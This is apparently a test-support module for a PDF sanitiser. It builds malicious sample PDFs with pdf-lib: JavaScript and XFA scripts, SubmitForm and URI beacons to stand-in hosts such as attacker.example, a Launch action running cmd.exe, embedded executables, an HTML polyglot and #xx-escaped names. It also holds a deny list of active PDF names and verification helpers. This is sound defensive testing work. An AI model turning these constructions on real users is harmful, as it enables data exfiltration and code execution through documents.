import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import zlib from "node:zlib";
import { PDFArray, PDFDict, PDFDocument, PDFInvalidObject, PDFName, PDFRawStream, PDFRef, PDFStream, PDFString, StandardFonts, type PDFObject, type PDFPage } from "pdf-lib";
import sharp from "sharp";

// A corpus of PDFs with active content, built here with pdf-lib's low-level API (no binary
// fixtures from elsewhere), and the checks the sanitiser's tests run over what was stored: an
// independent parser (qpdf, every stream decompressed) and pdf-lib's own object list.

/** Names that must not be left anywhere in a stored PDF (as a key or as a value). */
export const FORBIDDEN_NAMES = [
  "OpenAction",
  "AA",
  "JS",
  "JavaScript",
  "URI",
  "SubmitForm",
  "ImportData",
  "GoToR",
  "GoToE",
  "Launch",
  "XFA",
  "NeedsRendering",
  "RichMedia",
  "RichMediaContent",
  "RichMediaSettings",
  "RichMediaExecute",
  "Rendition",
  "EmbeddedFile",
  "EmbeddedFiles",
  "EF",
  "FileAttachment",
] as const;

export interface CorpusEntry {
  name: string;
  /** What makes the file dangerous, for the test's name. */
  what: string;
  bytes: Uint8Array;
  /** Text drawn on its pages (pdftotext finds it before and after sanitising). */
  text: string;
  pages: number;
  /** Strings that live only in the active parts (scripts, URLs, file contents): gone afterwards. */
  traces: string[];
}

const BEACON = "https://beacon.example/pixel?case=4711";
const COLLECT = "https://collect.example/submit";
const SCRIPT = "app.launchURL('https://script.example/steal', true);";
const SECRET_FILE = "EINGEBETTET-rechnung-payload";

/** One or more A5 pages with a line of text each (Helvetica). */
async function textDocument(lines: string[]): Promise<{ doc: PDFDocument; pages: PDFPage[] }> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const pages = lines.map((line) => {
    const page = doc.addPage([420, 595]);
    page.drawText(line, { x: 40, y: 500, size: 16, font });
    return page;
  });
  return { doc, pages };
}

function str(value: string): PDFString {
  return PDFString.of(value);
}

function linkAnnotation(doc: PDFDocument, page: PDFPage, action: Record<string, unknown>, y = 100): PDFRef {
  const ref = doc.context.register(doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, y, 300, y + 30], Border: [0, 0, 0], P: page.ref, A: action as never }));
  page.node.addAnnot(ref);
  return ref;
}

function embeddedFileSpec(doc: PDFDocument, filename: string, content: string): PDFRef {
  const file = doc.context.register(doc.context.flateStream(content, { Type: "EmbeddedFile", Subtype: "application/octet-stream" }));
  return doc.context.register(doc.context.obj({ Type: "Filespec", F: str(filename), UF: str(filename), EF: { F: file } }));
}

/** A classic xref table and trailer for a body built by hand (for the incremental update). */
function appendIncrementalUpdate(base: Uint8Array, objects: Array<{ num: number; body: string }>, root: number, size: number, prev: number): Buffer {
  let out = Buffer.from(base);
  const offsets: Array<{ num: number; offset: number }> = [];
  for (const object of objects) {
    out = Buffer.concat([out, Buffer.from("\n")]);
    offsets.push({ num: object.num, offset: out.length });
    out = Buffer.concat([out, Buffer.from(`${object.num} 0 obj\n${object.body}\nendobj\n`, "latin1")]);
  }
  const xrefAt = out.length;
  let xref = "xref\n";
  for (const { num, offset } of offsets) xref += `${num} 1\n${String(offset).padStart(10, "0")} 00000 n \n`;
  xref += `trailer\n<< /Size ${size} /Root ${root} 0 R /Prev ${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([out, Buffer.from(xref, "latin1")]);
}

function startxrefOf(bytes: Uint8Array): number {
  const text = Buffer.from(bytes).toString("latin1");
  const at = text.lastIndexOf("startxref");
  return Number(/startxref\s+(\d+)/.exec(text.slice(at))![1]);
}

// ---------------------------------------------------------------------------------------------
// The corpus

/** /OpenAction → /URI: the reader calls home the moment the file is opened. */
async function openActionBeacon(): Promise<CorpusEntry> {
  const text = "Mietvertrag Seite 1";
  const { doc } = await textDocument([text]);
  doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(doc.context.obj({ Type: "Action", S: "URI", URI: str(BEACON) })));
  // A base URI for relative links, too.
  doc.catalog.set(PDFName.of("URI"), doc.context.obj({ Base: str("https://beacon.example/") }));
  return { name: "open-action-uri.pdf", what: "/OpenAction → /URI beacon", bytes: await doc.save({ useObjectStreams: false }), text, pages: 1, traces: ["beacon.example"] };
}

/** A form whose button sends the fields to an outside server; the page sends it again when closed. */
async function submitForm(): Promise<CorpusEntry> {
  const text = "Antrag auf Erstattung";
  const { doc, pages } = await textDocument([text]);
  const [page] = pages;
  const submit = doc.context.obj({ Type: "Action", S: "SubmitForm", F: { FS: "URL", F: str(COLLECT) }, Flags: 4 });
  const field = doc.context.register(
    doc.context.obj({
      Type: "Annot",
      Subtype: "Widget",
      FT: "Tx",
      T: str("iban"),
      V: str("DE02"),
      DA: str("/Helv 0 Tf 0 g"),
      Rect: [40, 300, 300, 330],
      P: page.ref,
      F: 4,
      A: submit,
      AA: { Bl: { S: "SubmitForm", F: { FS: "URL", F: str(`${COLLECT}?blur`) } } },
    }),
  );
  page.node.addAnnot(field);
  doc.catalog.set(PDFName.of("AcroForm"), doc.context.obj({ Fields: [field] }));
  page.node.set(PDFName.of("AA"), doc.context.obj({ C: { S: "SubmitForm", F: { FS: "URL", F: str(`${COLLECT}?close`) } } }));
  return {
    name: "submit-form.pdf",
    what: "/SubmitForm to an outside URL (field action, field /AA, page /AA)",
    bytes: await doc.save({ useObjectStreams: false }),
    text,
    pages: 1,
    traces: ["collect.example"],
  };
}

/** An XFA form with a script (compressed: the script is not in the raw bytes). */
async function xfaScript(): Promise<CorpusEntry> {
  const text = "Formular Weiterbewilligung";
  const { doc } = await textDocument([text]);
  const template = `<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event></subform></template>`;
  const xfa = doc.context.register(doc.context.flateStream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">${template}</xdp:xdp>`));
  const preamble = doc.context.register(doc.context.flateStream(`<?xml version="1.0"?>`));
  doc.catalog.set(PDFName.of("AcroForm"), doc.context.obj({ Fields: [], XFA: [str("preamble"), preamble, str("template"), xfa] }));
  doc.catalog.set(PDFName.of("NeedsRendering"), doc.context.obj(false));
  return { name: "xfa-script.pdf", what: "/XFA stream carrying a script", bytes: await doc.save(), text, pages: 1, traces: ["script.example", "x-javascript"] };
}

/** A valid PDF with an HTML page after %%EOF (a polyglot: a browser that sniffs would run it). */
async function htmlAfterEof(): Promise<CorpusEntry> {
  const text = "Kontoauszug Januar";
  const { doc } = await textDocument([text]);
  const pdf = await doc.save({ useObjectStreams: false });
  const html = `\n<html><body><script>fetch("${BEACON}&polyglot=1")</script></body></html>\n`;
  return { name: "html-after-eof.pdf", what: "HTML after %%EOF", bytes: Buffer.concat([Buffer.from(pdf), Buffer.from(html)]), text, pages: 1, traces: ["<html", "<script", "beacon.example"] };
}

/** An embedded file (document-level name tree, associated file) and a file-attachment annotation. */
async function embeddedFile(): Promise<CorpusEntry> {
  const text = "Rechnung Stadtwerke";
  const { doc, pages } = await textDocument([text]);
  const [page] = pages;
  const spec = embeddedFileSpec(doc, "rechnung.exe", `MZ ${SECRET_FILE}`);
  doc.catalog.set(PDFName.of("Names"), doc.context.obj({ EmbeddedFiles: { Names: [str("rechnung.exe"), spec] } }));
  doc.catalog.set(PDFName.of("AF"), doc.context.obj([spec]));
  const attachment = doc.context.register(
    doc.context.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [40, 40, 60, 60], Name: "PushPin", P: page.ref, FS: embeddedFileSpec(doc, "beleg.js", `${SECRET_FILE}-annotation`) }),
  );
  page.node.addAnnot(attachment);
  return {
    name: "embedded-file.pdf",
    what: "embedded files (/EmbeddedFiles, /AF, /FileAttachment annotation)",
    bytes: await doc.save(),
    text,
    pages: 1,
    traces: [SECRET_FILE, "rechnung.exe", "beleg.js"],
  };
}

/** Link annotations that start a program, open remote documents or import data. */
async function launchAndRemote(): Promise<CorpusEntry> {
  const text = "Lohnabrechnung Maerz";
  const { doc, pages } = await textDocument([text]);
  const [page] = pages;
  linkAnnotation(doc, page, { S: "Launch", F: str("cmd.exe"), Win: { F: str("cmd.exe"), P: str("/c calc.exe") }, NewWindow: true }, 100);
  linkAnnotation(doc, page, { S: "GoToR", F: str("\\\\attacker.example\\share\\x.pdf"), D: [0, "Fit"] }, 140);
  linkAnnotation(doc, page, { S: "GoToE", T: { R: "C", N: str("inner") }, D: [0, "Fit"] }, 180);
  linkAnnotation(doc, page, { S: "ImportData", F: { FS: "URL", F: str("https://attacker.example/data.fdf") } }, 220);
  return {
    name: "launch.pdf",
    what: "/Launch, /GoToR, /GoToE and /ImportData actions",
    bytes: await doc.save({ useObjectStreams: false }),
    text,
    pages: 1,
    traces: ["cmd.exe", "calc.exe", "attacker.example"],
  };
}

/** An ordinary-looking link (/A /URI) next to an internal link (/GoTo) that must stay. */
async function uriLink(): Promise<CorpusEntry> {
  const text = "Bescheid Seite 1";
  const { doc, pages } = await textDocument([text, "Bescheid Seite 2"]);
  linkAnnotation(doc, pages[0], { S: "URI", URI: str("https://phish.example/login") }, 100);
  linkAnnotation(doc, pages[0], { S: "GoTo", D: [pages[1].ref, "Fit"] }, 200);
  return { name: "uri-link.pdf", what: "annotation with /A /URI (an internal /GoTo link stays)", bytes: await doc.save({ useObjectStreams: false }), text, pages: 2, traces: ["phish.example"] };
}

/** JavaScript everywhere it can hide: open action, name tree, page and field /AA, a /Next chain. */
async function javaScript(): Promise<CorpusEntry> {
  const text = "Meldebescheinigung";
  const { doc, pages } = await textDocument([text]);
  const [page] = pages;
  const js = (code: string) => doc.context.obj({ S: "JavaScript", JS: str(code) });
  doc.catalog.set(PDFName.of("OpenAction"), js(SCRIPT));
  const scriptStream = doc.context.register(doc.context.flateStream(`${SCRIPT} /* from the name tree */`));
  doc.catalog.set(PDFName.of("Names"), doc.context.obj({ JavaScript: { Names: [str("init"), doc.context.obj({ S: "JavaScript", JS: scriptStream })] } }));
  page.node.set(PDFName.of("AA"), doc.context.obj({ O: js(SCRIPT) }));
  // A harmless first action whose /Next runs a script and opens a URL.
  linkAnnotation(doc, page, { S: "GoTo", D: [page.ref, "Fit"], Next: [js(SCRIPT), { S: "URI", URI: str(BEACON) }] }, 100);
  // An outline entry with a script.
  const outline = doc.context.register(doc.context.obj({ Type: "Outlines", Count: 1 }));
  const item = doc.context.register(doc.context.obj({ Title: str("Start"), Parent: outline, A: js(SCRIPT) }));
  (doc.context.lookup(outline) as PDFDict).set(PDFName.of("First"), item);
  (doc.context.lookup(outline) as PDFDict).set(PDFName.of("Last"), item);
  doc.catalog.set(PDFName.of("Outlines"), outline);
  return {
    name: "javascript.pdf",
    what: "JavaScript (open action, name tree, page /AA, /Next chain, outline)",
    bytes: await doc.save(),
    text,
    pages: 1,
    traces: ["script.example", "beacon.example", "app.launchURL"],
  };
}

/** Rich media (Flash-era) annotation with an embedded asset, and a RichMediaExecute action. */
async function richMedia(): Promise<CorpusEntry> {
  const text = "Praesentation";
  const { doc, pages } = await textDocument([text]);
  const [page] = pages;
  const asset = embeddedFileSpec(doc, "player.swf", `FWS ${SECRET_FILE}-swf`);
  const annotation = doc.context.register(
    doc.context.obj({
      Type: "Annot",
      Subtype: "RichMedia",
      Rect: [40, 100, 380, 400],
      P: page.ref,
      RichMediaContent: {
        Assets: { Names: [str("player.swf"), asset] },
        Configurations: [{ Type: "RichMediaConfiguration", Subtype: "Flash", Instances: [{ Type: "RichMediaInstance", Subtype: "Flash", Asset: asset }] }],
      },
      RichMediaSettings: { Activation: { Condition: "PO" } },
    }),
  );
  page.node.addAnnot(annotation);
  linkAnnotation(doc, page, { S: "RichMediaExecute", TA: annotation, CMD: { C: str("play") } }, 60);
  return { name: "rich-media.pdf", what: "/RichMedia annotation and /RichMediaExecute", bytes: await doc.save(), text, pages: 1, traces: [SECRET_FILE, "player.swf"] };
}

/** A clean file with an incremental update that adds an open action (how documents get "edited"). */
async function incrementalUpdate(): Promise<CorpusEntry> {
  const text = "Arbeitsvertrag";
  const { doc } = await textDocument([text]);
  const base = await doc.save({ useObjectStreams: false });
  const root = doc.context.trailerInfo.Root as PDFRef;
  const pagesRef = doc.catalog.get(PDFName.of("Pages")) as PDFRef;
  const size = doc.context.largestObjectNumber + 1;
  const bytes = appendIncrementalUpdate(
    base,
    [
      { num: size, body: `<< /S /JavaScript /JS (${SCRIPT.replace(/[()\\]/g, "\\$&")}) >>` },
      { num: root.objectNumber, body: `<< /Type /Catalog /Pages ${pagesRef.objectNumber} 0 R /OpenAction ${size} 0 R >>` },
    ],
    root.objectNumber,
    size + 1,
    startxrefOf(base),
  );
  return { name: "incremental-update.pdf", what: "an incremental update adding JavaScript", bytes, text, pages: 1, traces: ["script.example"] };
}

/** Names written with #xx escapes (also lower-case hex, which readers accept): /#55RI, /Open#41ction, /#4aavaScript. */
async function escapedNames(): Promise<CorpusEntry> {
  const text = "Nebenkostenabrechnung";
  const { doc, pages } = await textDocument([text]);
  linkAnnotation(doc, pages[0], { S: "PLACEHOLDERA", URI: str("https://escaped.example/") }, 100);
  linkAnnotation(doc, pages[0], { S: "PLACEHOLDERC", JS: str(SCRIPT) }, 200);
  doc.catalog.set(PDFName.of("PLACEHOLDERB"), doc.context.obj({ S: "PLACEHOLDERC", JS: str(SCRIPT) }));
  const raw = Buffer.from(await doc.save({ useObjectStreams: false })).toString("latin1");
  // Replacements of the same length keep the xref offsets right.
  const same = (placeholder: string, name: string) => (text: string) => text.split(placeholder).join(name.padEnd(placeholder.length, " "));
  const patched = [same("/PLACEHOLDERA", "/#55RI"), same("/PLACEHOLDERB", "/Open#41ction"), same("/PLACEHOLDERC", "/#4aavaScript")].reduce((text, replace) => replace(text), raw);
  return { name: "escaped-names.pdf", what: "active names hidden behind #xx escapes", bytes: Buffer.from(patched, "latin1"), text, pages: 1, traces: ["escaped.example", "script.example"] };
}

export async function activeCorpus(): Promise<CorpusEntry[]> {
  return Promise.all([openActionBeacon(), submitForm(), xfaScript(), htmlAfterEof(), embeddedFile(), launchAndRemote(), uriLink(), javaScript(), richMedia(), incrementalUpdate(), escapedNames()]);
}

// ---------------------------------------------------------------------------------------------
// Ordinary files: they must come out with the same pages, text and picture.

/** A "scan": photos of pages as JPEG, one per page (what phone scanner apps make). */
export async function scannedPdf({ pages = 2, objectStreams = false } = {}): Promise<CorpusEntry> {
  const doc = await PDFDocument.create();
  doc.setTitle("Scan 2026-03-01");
  doc.setProducer("Scanner App");
  for (let i = 0; i < pages; i++) {
    const jpeg = await sharp({ create: { width: 620, height: 877, channels: 3, background: { r: 250 - i * 30, g: 248, b: 240 } } })
      .composite([{ input: Buffer.from(`<svg width="620" height="877"><rect x="60" y="${80 + i * 40}" width="500" height="30" fill="#222"/></svg>`), top: 0, left: 0 }])
      .jpeg({ quality: 80 })
      .toBuffer();
    const image = await doc.embedJpg(jpeg);
    const page = doc.addPage([595, 842]);
    page.drawImage(image, { x: 0, y: 0, width: 595, height: 842 });
  }
  return { name: objectStreams ? "scan-object-streams.pdf" : "scan.pdf", what: "an ordinary scan", bytes: await doc.save({ useObjectStreams: objectStreams }), text: "", pages, traces: [] };
}

/** A text document as office software exports it: text, an outline, an internal link. */
export async function textPdf(): Promise<CorpusEntry> {
  const lines = ["Bescheinigung über Einkommen", "Seite zwei: Zahlungen 2026"];
  const { doc, pages } = await textDocument(lines);
  linkAnnotation(doc, pages[0], { S: "GoTo", D: [pages[1].ref, "XYZ", 0, 595, 0] }, 200);
  return { name: "text.pdf", what: "an ordinary text PDF", bytes: await doc.save(), text: lines.join(" "), pages: 2, traces: [] };
}

// ---------------------------------------------------------------------------------------------
// Looking into a stored PDF

function tempFile(bytes: Uint8Array, suffix = ".pdf"): { file: string; done: () => void } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "pdf-check-"));
  const file = path.join(dir, `f${suffix}`);
  fs.writeFileSync(file, bytes);
  return { file, done: () => fs.rmSync(dir, { recursive: true, force: true }) };
}

/** The file as qpdf sees it, every object outside object streams and every stream decompressed. */
export function qpdfExpanded(bytes: Uint8Array): string {
  const input = tempFile(bytes);
  const output = `${input.file}.qdf`;
  try {
    execFileSync("qpdf", ["--qdf", "--object-streams=disable", "--stream-data=uncompress", "--decode-level=generalized", input.file, output], { stdio: "pipe" });
    return fs.readFileSync(output).toString("latin1");
  } catch (error) {
    // qpdf exits 3 on warnings but still writes the file.
    if (fs.existsSync(output)) return fs.readFileSync(output).toString("latin1");
    throw error;
  } finally {
    input.done();
  }
}

export function qpdfCheck(bytes: Uint8Array): string {
  const input = tempFile(bytes);
  try {
    return execFileSync("qpdf", ["--check", input.file], { encoding: "utf8", stdio: "pipe" });
  } finally {
    input.done();
  }
}

/** Forbidden names in qpdf's expanded file (qpdf writes names canonically, escapes decoded). */
export function forbiddenNamesInText(expanded: string): string[] {
  const found = new Set<string>();
  for (const name of FORBIDDEN_NAMES) {
    if (new RegExp(`/${name}(?=[\\s/<>\\[\\]()%{}]|$)`).test(expanded)) found.add(name);
  }
  return [...found];
}

function decodeName(name: PDFName): string {
  let value = name.asString().slice(1);
  for (let i = 0; i < 3 && value.includes("#"); i++) value = value.replace(/#([0-9a-fA-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
  return value;
}

/**
 * Every name (key or value) in every object pdf-lib finds, also inside object streams, plus
 * the decompressed contents of every stream; and whether any object could not be parsed.
 */
export async function pdfLibView(bytes: Uint8Array): Promise<{ names: Set<string>; streams: string; invalid: number; pages: number }> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const names = new Set<string>();
  let streams = "";
  let invalid = 0;
  const seen = new Set<PDFObject>();
  const visit = (object: PDFObject | undefined): void => {
    if (!object || seen.has(object)) return;
    if (object instanceof PDFName) {
      names.add(decodeName(object));
      return;
    }
    if (object instanceof PDFInvalidObject) invalid++;
    if (!(object instanceof PDFDict || object instanceof PDFArray || object instanceof PDFStream)) return;
    seen.add(object);
    if (object instanceof PDFStream) {
      visit(object.dict);
      if (object instanceof PDFRawStream) {
        const filter = object.dict.lookup(PDFName.of("Filter"));
        try {
          streams += filter === PDFName.of("FlateDecode") ? zlib.inflateSync(object.contents).toString("latin1") : filter ? "" : Buffer.from(object.contents).toString("latin1");
        } catch {
          streams += "<undecodable>";
        }
      }
    } else if (object instanceof PDFDict) {
      for (const [key, value] of object.entries()) {
        visit(key);
        visit(value);
      }
    } else {
      for (const value of object.asArray()) visit(value);
    }
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object);
  visit(doc.context.trailerInfo.Root);
  return { names, streams, invalid, pages: doc.getPageCount() };
}

/** What pdftotext reads, whitespace normalised. */
export function pdfText(bytes: Uint8Array): string {
  const input = tempFile(bytes);
  try {
    return execFileSync("pdftotext", [input.file, "-"], { encoding: "utf8" }).replace(/\s+/g, " ").trim();
  } finally {
    input.done();
  }
}

/** The pages rendered by poppler (pdftoppm, 40 dpi, grey): what a person sees. */
export function rendered(bytes: Uint8Array): Buffer[] {
  const input = tempFile(bytes);
  try {
    execFileSync("pdftoppm", ["-r", "40", "-gray", input.file, path.join(path.dirname(input.file), "page")]);
    return fs
      .readdirSync(path.dirname(input.file))
      .filter((f) => f.startsWith("page"))
      .sort()
      .map((f) => fs.readFileSync(path.join(path.dirname(input.file), f)));
  } finally {
    input.done();
  }
}

/** The decoded content streams of each page (what is drawn), for an exact comparison. */
export async function pageContents(bytes: Uint8Array): Promise<string[]> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  return doc.getPages().map((page) => {
    const contents = page.node.Contents();
    const streams = contents instanceof PDFArray ? contents.asArray().map((ref) => doc.context.lookup(ref)) : [contents];
    return streams
      .map((stream) => {
        if (!(stream instanceof PDFRawStream)) return "";
        const filter = stream.dict.lookup(PDFName.of("Filter"));
        return filter === PDFName.of("FlateDecode") ? zlib.inflateSync(stream.contents).toString("latin1") : Buffer.from(stream.contents).toString("latin1");
      })
      .join("\n");
  });
}

/** Bytes after the last %%EOF, other than an end of line. */
export function afterLastEof(bytes: Uint8Array): string {
  const text = Buffer.from(bytes).toString("latin1");
  const at = text.lastIndexOf("%%EOF");
  return at === -1 ? text : text.slice(at + 5).replace(/^\r?\n?$/, "");
}

/**
 * A copy of `bytes` encrypted by qpdf (AES-256, objects in encrypted object streams; empty user
 * password, like "protected" bank statements).
 */
export function encryptedWithQpdf(bytes: Uint8Array): Buffer {
  const input = tempFile(bytes);
  const output = `${input.file}.enc.pdf`;
  try {
    execFileSync("qpdf", ["--encrypt", "", "eigentuemer", "256", "--", "--object-streams=generate", input.file, output]);
    return fs.readFileSync(output);
  } finally {
    input.done();
  }
}
